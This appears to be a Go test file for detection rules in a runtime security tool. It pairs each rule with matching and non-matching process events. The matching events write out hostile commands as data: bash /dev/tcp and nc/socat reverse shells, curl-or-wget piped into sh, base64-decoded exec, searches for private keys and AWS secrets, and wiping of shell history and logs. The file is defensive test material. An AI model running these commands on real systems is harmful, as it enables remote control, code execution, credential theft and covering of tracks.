package config_test

import "github.com/gyrsec/gyr/event"

func execBehaviours() []behaviour {
	return []behaviour{
		{
			rule: "Detect crypto miners using the Stratum protocol",
			match: []*event.Event{
				exec(cmd("/usr/bin/xmrig", "-o", "stratum+tcp://pool.example:3333")),
				exec(cmd("/usr/bin/python3", "-o", "STRATUM+SSL://pool.example:443")),
				exec(cmd("/opt/m", "--pool", "stratum2+tcp://pool.example"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/chronyc", "stratum")),
				exec(cmd("/usr/bin/grep", "stratum+tcp", "/srv/notes")),
				exec(cmd("/usr/bin/nohup", "/usr/bin/xmrig", "-o", "stratum+tcp://pool.example:3333")),
				exec(cmd("/usr/bin/xmrig", "-o", "stratum+tcp://pool.example:3333"), result(enoent)),
			},
		},
		{
			rule: "Program Run From Memory",
			match: []*event.Event{
				exec(cmd("x=/memfd:x (deleted)"), exeFlags(event.ExeMemfd)),
				exec(cmd("/memfd:x"), inContainer),
				exec(cmd("runc=/memfd:runc_cloned:/proc/self/exe (deleted)", "init"), exeFlags(event.ExeMemfd), under("/usr/bin/bash")),
			},
			misses: []*event.Event{
				exec(cmd("runc=/memfd:runc_cloned:/proc/self/exe (deleted)", "init"), exeFlags(event.ExeMemfd), under("/usr/sbin/runc")),
				exec(cmd("x=/usr/bin/true")),
			},
		},
		{
			rule: "Program Run From Temporary Directory",
			match: []*event.Event{
				exec(cmd("/tmp/x")),
				exec(cmd("ls=/dev/shm/.hidden/ls"), inContainer),
				exec(cmd("/var/tmp/x", "-v")),
				exec(cmd("/tmp/go-build1/x"), under("/usr/bin/bash")),
			},
			misses: []*event.Event{
				exec(cmd("x.sh=/usr/bin/dash", "/tmp/x.sh")),
				exec(cmd("/usr/bin/ls", "/tmp/x")),
				exec(cmd("/tmp/go-build1/b001/x.test"), under("/usr/local/go/bin/go")),
				exec(cmd("/tmp/apt.x/preinst"), under("/usr/bin/dpkg", "/usr/bin/apt-get")),
				exec(cmd("/tmp/x"), result(enoent), filename("/tmp/x")),
				exec(cmd("/home/u/tmp/x")),
			},
		},
		{
			rule: "Program In Temporary Directory Refused",
			match: []*event.Event{
				exec(cmd("/usr/bin/bash"), result(eacces), filename("/tmp/x")),
				exec(cmd("/usr/bin/env"), result(eperm), filename("/dev/shm/x"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/bash"), result(enoent), filename("/tmp/x")),
				exec(cmd("/usr/bin/bash"), result(eacces), filename("/home/u/x")),
			},
		},
		{
			rule: "Reverse Shell Command",
			match: []*event.Event{
				exec(cmd("/usr/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")),
				exec(cmd("/bin/bash", "-c", "cat </dev/udp/192.0.2.1/53"), inContainer),
				exec(cmd("x=/usr/bin/bash", "-c", "exec 3<>/dev/tcp/192.0.2.1/80")),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/grep", "-r", "/dev/tcp/", "/srv")),
				exec(cmd("/usr/bin/bash", "-c", "ls /dev/tcp")),
			},
		},
		{
			rule: "Network Tool Told To Run A Shell",
			match: []*event.Event{
				exec(cmd("nc=/usr/bin/nc.traditional", "192.0.2.1", "4444", "-e", "/bin/sh")),
				exec(cmd("/usr/bin/ncat", "--exec", "/bin/bash", "192.0.2.1", "4444")),
				exec(cmd("nc=/bin/busybox", "-e", "/bin/sh", "192.0.2.1"), inContainer),
				exec(cmd("/usr/bin/socat", "TCP:192.0.2.1:4444", "EXEC:/bin/sh,pty")),
			},
			misses: []*event.Event{
				exec(cmd("nc=/usr/bin/nc.openbsd", "-z", "192.0.2.1", "22")),
				exec(cmd("/usr/bin/socat", "TCP-LISTEN:80", "TCP:127.0.0.1:8080")),
				exec(cmd("/usr/bin/sed", "-e", "s/a/b/")),
			},
		},
		{
			rule: "Encoded Script Run",
			match: []*event.Event{
				exec(cmd("python3=/usr/bin/python3.11", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))")),
				exec(cmd("/usr/bin/perl", "-MMIME::Base64", "-e", "eval decode_base64('cHJpbnQ=')")),
				exec(cmd("/bin/sh", "-c", "echo aWQK | base64 -d | sh"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("python3=/usr/bin/python3.11", "-c", "print(1)")),
				exec(cmd("/bin/sh", "-c", "echo aWQK | base64 -d > /srv/x")),
				exec(cmd("/usr/bin/base64", "-d", "/srv/x")),
				exec(cmd("python3=/usr/bin/python3.11", "/srv/b64decode.py")),
			},
		},
		{
			rule: "Download Piped Into Shell",
			match: []*event.Event{
				exec(cmd("/bin/sh", "-c", "curl -fsSL http://192.0.2.1/i.sh | sh")),
				exec(cmd("/usr/bin/bash", "-c", "wget -qO- http://192.0.2.1/i|bash"), inContainer),
				exec(cmd("/usr/bin/bash", "-c", "bash <(curl http://192.0.2.1/i)")),
			},
			misses: []*event.Event{
				exec(cmd("/bin/sh", "-c", "curl -o /srv/i.sh http://192.0.2.1/i.sh")),
				exec(cmd("/bin/sh", "-c", "cat /srv/i.sh | sh")),
				exec(cmd("/usr/bin/curl", "http://192.0.2.1/")),
			},
		},
		{
			rule: "Shell Started By Server Program",
			match: []*event.Event{
				exec(cmd("sh=/usr/bin/dash", "-c", "id"), under("/usr/sbin/nginx", "/usr/sbin/nginx")),
				exec(cmd("sh=/bin/busybox", "-c", "id"), under("/usr/local/bin/redis-server"), inContainer),
				exec(cmd("/usr/bin/bash"), under("postgres=/usr/lib/postgresql/15/bin/postgres")),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/convert"), under("/usr/sbin/nginx")),
				exec(cmd("sh=/usr/bin/dash", "-c", "id"), under("/usr/sbin/cron")),
				exec(cmd("sh=/usr/bin/dash", "-c", "id"), under("/usr/bin/nginx-helper")),
			},
		},
		{
			rule: "Search For Programs With Special Rights",
			match: []*event.Event{
				exec(cmd("/usr/bin/find", "/", "-perm", "-4000", "-type", "f")),
				exec(cmd("/usr/bin/find", "/", "-perm", "/u=s")),
				exec(cmd("/usr/sbin/getcap", "-r", "/"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/find", "/", "-perm", "-0644")),
				exec(cmd("/usr/bin/find", "/srv/4000")),
				exec(cmd("/usr/sbin/getcap", "/usr/bin/ping")),
			},
		},
		{
			rule: "Search For Private Keys Or Passwords",
			match: []*event.Event{
				exec(cmd("/usr/bin/grep", "-r", "BEGIN RSA PRIVATE", "/")),
				exec(cmd("/usr/bin/find", "/", "-name", "id_rsa*"), inContainer),
				exec(cmd("/usr/bin/rg", "aws_secret_access_key")),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/grep", "-r", "BEGIN CERTIFICATE", "/")),
				exec(cmd("/usr/bin/find", "/", "-name", "*.go")),
			},
		},
		{
			rule: "Shell History Removed",
			match: []*event.Event{
				exec(cmd("/usr/bin/rm", "-f", "/root/.bash_history")),
				exec(cmd("/usr/bin/shred", "-u", "/home/u/.zsh_history")),
				exec(cmd("/usr/bin/ln", "-sf", "/dev/null", "/root/.bash_history")),
				emptied("/root/.bash_history", cmd("/usr/bin/tee", "/root/.bash_history")),
			},
			misses: []*event.Event{
				emptied("/root/.bash_history", cmd("/usr/bin/bash")),
				exec(cmd("/usr/bin/cat", "/root/.bash_history")),
				exec(cmd("/usr/bin/rm", "/root/notes")),
				emptied("/root/.python_history", cmd("python3=/usr/bin/python3.11")),
				emptied("/root/.ash_history", cmd("sh=/bin/busybox"), inContainer),
			},
		},
		{
			rule: "Security Log Cleared",
			match: []*event.Event{
				emptied("/var/log/auth.log", cmd("/usr/bin/bash")),
				emptied("/var/log/audit/audit.log.1", cmd("/usr/bin/cp")),
				creat("/var/log/wtmp", cmd("/opt/x")),
				exec(cmd("/usr/bin/truncate", "-s", "0", "/var/log/syslog")),
				exec(cmd("/usr/bin/rm", "-rf", "/var/log/journal")),
			},
			misses: []*event.Event{
				written("/var/log/auth.log", cmd("/usr/sbin/rsyslogd")),
				emptied("/var/log/syslog", cmd("/usr/sbin/logrotate")),
				emptied("/var/log/app.log", cmd("/opt/app")),
				written("/var/log/wtmp", cmd("/usr/bin/login")),
				exec(cmd("/usr/bin/tail", "/var/log/syslog")),
			},
		},
		{
			rule: "Kernel Module Tool Started",
			match: []*event.Event{
				exec(cmd("insmod=/usr/bin/kmod", "/srv/x.ko")),
				exec(cmd("modprobe=/usr/bin/kmod", "dummy"), inContainer),
				exec(cmd("modprobe=/usr/bin/kmod", "dummy"), onTerminal, under("/usr/bin/bash")),
				exec(cmd("rmmod=/bin/busybox", "x")),
			},
			misses: []*event.Event{
				exec(cmd("modprobe=/usr/bin/kmod", "-q", "net-pf-10"), under("kworker/u4:1=")),
				exec(cmd("modprobe=/usr/bin/kmod", "ip_tables"), onTerminal, under("iptables=/usr/sbin/xtables-nft-multi")),
				exec(cmd("lsmod=/usr/bin/kmod")),
				exec(cmd("insmod=/usr/bin/kmod", "/srv/x.ko"), under("/bin/sh", "/usr/bin/dpkg")),
			},
		},
		{
			rule: "Kernel Tracing Tool Started",
			match: []*event.Event{
				exec(cmd("/usr/sbin/bpftool", "prog", "list")),
				exec(cmd("x=/usr/bin/bpftrace", "-e", "BEGIN {}"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/sbin/bpftool", "version")),
				exec(cmd("/usr/bin/ls", "/usr/sbin/bpftool")),
			},
		},
		{
			rule: "User Or Group Changed",
			match: []*event.Event{
				exec(cmd("/usr/sbin/useradd", "eve"), under("/usr/bin/bash")),
				exec(cmd("/usr/sbin/usermod", "-aG", "sudo", "eve")),
				exec(cmd("adduser=/bin/busybox", "-D", "eve"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/sbin/useradd", "-r", "svc"), under("/usr/bin/perl", "/usr/bin/dash", "/usr/bin/dpkg")),
				exec(cmd("/usr/sbin/useradd", "-D")),
				exec(cmd("/usr/bin/id", "eve")),
			},
		},
	}
}

func containerExecBehaviours() []behaviour {
	return []behaviour{
		{
			rule: "Launch Disallowed Container",
			local: `
- list: allowed_container_images
  items: [registry.example/web]
- macro: allowed_containers
  condition: (container.image.repository in (allowed_container_images))
`,
			match: []*event.Event{
				exec(cmd("/app/server"), image("registry.example/other"), first),
				exec(cmd("/app/server"), inContainer, first),
			},
			misses: []*event.Event{
				exec(cmd("/app/server"), image("registry.example/web"), first),
				exec(cmd("/app/worker"), image("registry.example/other")),
				exec(cmd("/usr/lib/systemd/systemd"), first),
			},
		},
		{
			rule: "Program Not From The Image Run In Container",
			match: []*event.Event{
				exec(cmd("/usr/bin/x"), inContainer, exeFlags(event.ExeUpperLayer)),
				exec(cmd("/tmp/x"), inContainer, exeFlags(event.ExeUpperLayer|event.ExeWritable)),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/x"), inContainer, exeFlags(event.ExeLowerLayer)),
				exec(cmd("/usr/bin/x"), exeFlags(event.ExeUpperLayer)),
				exec(cmd("/usr/bin/x"), inContainer, exeFlags(event.ExeUpperLayer), under("/bin/sh", "/usr/bin/dpkg")),
			},
		},
		{
			rule: "Terminal shell in container",
			match: []*event.Event{
				exec(cmd("sh=/bin/busybox"), inContainer, onTerminal, orphan),
				exec(cmd("/bin/bash", "-l"), inContainer, onTerminal, under("/usr/bin/containerd-shim-runc-v2")),
				exec(cmd("sh=/usr/bin/dash"), inContainer, onTerminal, under("runc:[1:CHILD]=")),
				exec(cmd("sh=/usr/bin/dash"), inContainer, onTerminal, sessionLeader, under("/usr/bin/python3.11")),
				exec(cmd("x=/usr/bin/bash"), inContainer, onTerminal, orphan),
				exec(cmd("busybox=/bin/busybox", "sh"), inContainer, onTerminal, orphan),
			},
			misses: []*event.Event{
				exec(cmd("sh=/bin/busybox"), inContainer, orphan),
				exec(cmd("/bin/bash"), onTerminal, orphan),
				exec(cmd("ls=/bin/busybox", "-l"), inContainer, onTerminal, orphan),
				exec(cmd("sh=/bin/busybox", "run.sh"), inContainer, onTerminal, under("sh=/bin/busybox")),
				exec(cmd("run.sh=/usr/bin/dash", "/run.sh"), inContainer, onTerminal, orphan),
				exec(cmd("sh=/bin/busybox"), inContainer, onTerminal, orphan, result(enoent)),
			},
		},
		{
			rule: "Launch Suspicious Network Tool in Container",
			match: []*event.Event{
				exec(cmd("/usr/bin/nmap", "-sS", "10.0.0.0/24"), inContainer),
				exec(cmd("nc=/bin/busybox", "-l", "-p", "80"), inContainer),
				exec(cmd("exe=/bin/busybox", "-l", "-p", "80"), inContainer, calledAs("nc")),
				exec(cmd("x=/usr/bin/tcpdump"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/nmap", "localhost")),
				exec(cmd("/usr/bin/curl", "localhost"), inContainer),
				exec(cmd("/usr/bin/ls", "/usr/bin/nmap"), inContainer),
				exec(cmd("exe=/bin/busybox", "nc"), inContainer, calledAs("ls")),
				exec(cmd("exe=/app/server"), inContainer, calledAs("nc")),
			},
		},
		{
			rule: "Package Manager In Container",
			match: []*event.Event{
				exec(cmd("/usr/bin/apt-get", "install", "-y", "nmap"), inContainer, under("/bin/sh")),
				exec(cmd("/sbin/apk", "add", "curl"), inContainer),
				exec(cmd("/usr/bin/dpkg", "-i", "x.deb"), inContainer),
				exec(cmd("pip=/usr/local/bin/python3.12", "/usr/local/bin/pip", "install", "x"), inContainer),
				exec(cmd("dnf=/usr/bin/python3.9", "install", "x"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/apt-get", "install", "-y", "nmap")),
				exec(cmd("/usr/bin/dpkg", "-l"), inContainer),
				exec(cmd("/usr/bin/dpkg", "--info", "x.deb"), inContainer),
				exec(cmd("/sbin/apk", "info"), inContainer),
				exec(cmd("/usr/bin/dpkg", "--unpack", "x.deb"), inContainer, under("/usr/bin/apt-get")),
			},
		},
		{
			rule: "Namespace Tool In Container",
			match: []*event.Event{
				exec(cmd("/usr/bin/nsenter", "-t", "1", "-m", "sh"), inContainer),
				exec(cmd("/usr/sbin/chroot", "/host", "sh"), inContainer),
				exec(cmd("unshare=/bin/busybox", "-r"), inContainer),
				exec(cmd("x=/usr/bin/nsenter"), inContainer),
				exec(cmd("exe=/bin/busybox", "-t", "1"), inContainer, calledAs("nsenter")),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/nsenter", "-t", "1", "-m", "sh")),
				exec(cmd("/usr/bin/lsns"), inContainer),
			},
		},
		{
			rule: "Container Client In Container",
			match: []*event.Event{
				exec(cmd("/usr/local/bin/kubectl", "get", "secrets"), inContainer),
				exec(cmd("x=/usr/bin/docker", "ps"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/local/bin/kubectl", "get", "secrets")),
				exec(cmd("/app/kube-agent"), inContainer),
			},
		},
		{
			rule: "Compiler In Container",
			match: []*event.Event{
				exec(cmd("gcc=/usr/bin/x86_64-linux-gnu-gcc-12", "x.c"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("gcc=/usr/bin/x86_64-linux-gnu-gcc-12", "x.c")),
				exec(cmd("/usr/bin/make"), inContainer),
				exec(cmd("cc=/usr/bin/x86_64-linux-gnu-gcc-12", "x.c"), inContainer, under("/usr/bin/dash", "/usr/bin/dpkg")),
			},
		},
		{
			rule: "Debugger In Container",
			match: []*event.Event{
				exec(cmd("/usr/bin/strace", "-p", "1"), inContainer),
				exec(cmd("/usr/bin/gdb"), inContainer),
			},
			misses: []*event.Event{
				exec(cmd("/usr/bin/strace", "-p", "1")),
				exec(cmd("/usr/bin/ps"), inContainer),
			},
		},
	}
}
